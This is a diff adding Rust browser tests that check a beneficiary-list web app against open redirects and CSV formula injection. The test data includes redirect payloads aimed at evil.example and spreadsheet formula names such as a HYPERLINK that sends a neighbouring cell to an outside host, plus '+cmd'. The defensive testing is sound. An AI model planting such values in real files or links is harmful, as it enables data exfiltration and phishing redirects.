@@ -83,10 +83,12 @@ async fn wait_for_text(client: &Client, css: &str, text: &str) {
 }
 
 async fn log_in(client: &Client, app: &TestApp, email: &str) {
-    client
-        .goto(&format!("{}/login", app.address))
-        .await
-        .unwrap();
+    log_in_at(client, &format!("{}/login", app.address), email).await;
+}
+
+/// Logs in from the login page at `url` (which may carry a `next`).
+async fn log_in_at(client: &Client, url: &str, email: &str) {
+    client.goto(url).await.unwrap();
     wait_for_text(client, "h1", "Connexion").await;
     client
         .find(Locator::Css("#email"))
@@ -344,5 +346,156 @@ async fn a_caller_works_through_their_queue_on_a_phone() {
         1
     );
     screenshot(&client, "queue-after-call-phone").await;
+    client.close().await.unwrap();
+}
+
+/// Waits until the browser has left the login page; gives where it landed.
+async fn landed(client: &Client) -> url::Url {
+    let deadline = std::time::Instant::now() + Duration::from_secs(15);
+    loop {
+        let url = client.current_url().await.unwrap();
+        if !url.path().starts_with("/login") || std::time::Instant::now() > deadline {
+            return url;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+}
+
+/// Last names an attacker would slip into a list: each becomes a live formula if a
+/// spreadsheet reads it as such.
+const HOSTILE_NAMES: [&str; 4] = [
+    "=HYPERLINK(\"http://x/?\"&D2,\"Dupont\")",
+    "+cmd",
+    "@SUM(1)",
+    "-2+3",
+];
+
+/// A beneficiary list whose rows have a hostile last name and no phone (so they are
+/// refused and kept, cells as the file had them, for the rejected-rows CSV).
+fn hostile_list() -> PathBuf {
+    let mut text = String::from(
+        "N° dossier;Nom;Prénom;Téléphone fixe;Téléphone portable;Adresse;Code postal;\
+         Commune;Date de naissance;Prestation;Langue;Territoire;Contact proche;Téléphone contact\n",
+    );
+    for (i, name) in HOSTILE_NAMES.iter().enumerate() {
+        let quoted = name.replace('"', "\"\"");
+        text.push_str(&format!(
+            "80-000990{i};\"{quoted}\";Jean;;;1 rue X;80000;Amiens;01/01/1940;APA;fr;;;\n"
+        ));
+    }
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/browser");
+    std::fs::create_dir_all(&dir).unwrap();
+    let path = dir.join("liste-hostile.csv");
+    std::fs::write(&path, text).unwrap();
+    path
+}
+
+/// Uploads `file` as a beneficiary list on the import page and confirms it; the browser
+/// ends on the import's page.
+async fn import_in_browser(client: &Client, app: &TestApp, file: &Path) {
+    client
+        .goto(&format!("{}/coordination/imports", app.address))
+        .await
+        .unwrap();
+    let input = client.find(Locator::Css("#file")).await.unwrap();
+    input.send_keys(file.to_str().unwrap()).await.unwrap();
+    let upload = client.find(Locator::Css("form[enctype] button")).await;
+    upload.unwrap().click().await.unwrap();
+    wait_for_text(client, "h1", "Vérification avant import").await;
+    let confirm = "form[action='/coordination/imports/confirm'] button";
+    let button = client.find(Locator::Css(confirm)).await.unwrap();
+    button.click().await.unwrap();
+    wait_for_text(client, "h1", "Import n°").await;
+}
+
+/// The body of `href`, fetched by the page itself (with the browser's cookies).
+async fn fetch_in_page(client: &Client, href: &str) -> String {
+    let script = "const done = arguments[arguments.length - 1]; \
+                  fetch(arguments[0], { credentials: 'same-origin' }) \
+                  .then(r => r.text()).then(done, e => done('failed: ' + e));";
+    let body = client
+        .execute_async(script, vec![serde_json::json!(href)])
+        .await
+        .unwrap();
+    body.as_str().unwrap().to_string()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+#[cfg_attr(
+    not(lien_browser_tests),
+    ignore = "browser suite skipped: run chromedriver and set LIEN_TEST_WEBDRIVER to run it"
+)]
+async fn an_attackers_walk_goes_nowhere() {
+    let app = spawn_app(Backend::Sqlite).await;
+    let client = browser(1280, 1000, false).await;
+    let home = url::Url::parse(&app.address).unwrap();
+
+    // A login link with a hostile `next`: after the login, the browser is at home.
+    for (i, next) in [
+        "/%09/evil.example",
+        "//evil.example",
+        "/\\evil.example",
+        "https://evil.example",
+        "/%5Cevil.example",
+    ]
+    .iter()
+    .enumerate()
+    {
+        // One account each: the login limit (5 a minute per account) is not the point.
+        let email = format!("coord{i}@cd80.example.org");
+        app.create_user(Role::Coordinator, &email).await;
+        client.delete_all_cookies().await.unwrap();
+        log_in_at(
+            &client,
+            &format!("{}/login?next={next}", app.address),
+            &email,
+        )
+        .await;
+        let url = landed(&client).await;
+        assert_eq!(
+            (url.host_str(), url.port(), url.path()),
+            (home.host_str(), home.port(), "/coordination/imports"),
+            "next={next}"
+        );
+    }
+
+    // A list whose names are formulas: refused rows, shown and downloaded as text.
+    import_in_browser(&client, &app, &hostile_list()).await;
+    let cells = client
+        .find_all(Locator::Css("table tbody td"))
+        .await
+        .unwrap();
+    let mut shown = Vec::new();
+    for cell in &cells {
+        shown.push(cell.text().await.unwrap());
+    }
+    // The name refused for itself (no letter) is shown in its cell, as typed.
+    assert!(shown.iter().any(|c| c == "-2+3"), "{shown:?}");
+    let links = client
+        .find_all(Locator::Css("table a, a[href*='x/?']"))
+        .await;
+    assert!(links.unwrap().is_empty(), "no link made from a cell");
+    let download = client
+        .find(Locator::Css("a[href$='/rejected.csv']"))
+        .await
+        .unwrap();
+    let href = download.attr("href").await.unwrap().unwrap();
+    let body = fetch_in_page(&client, &href).await;
+    // Read as a spreadsheet would: `;`-separated, after the byte-order mark.
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .flexible(true)
+        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
+    let read: Vec<String> = reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+        .collect();
+    for name in HOSTILE_NAMES {
+        assert!(
+            read.iter().any(|cell| *cell == format!("'{name}")),
+            "{name} as text in {read:?}"
+        );
+        assert!(!read.iter().any(|cell| cell == name), "{name} bare");
+    }
     client.close().await.unwrap();
 }
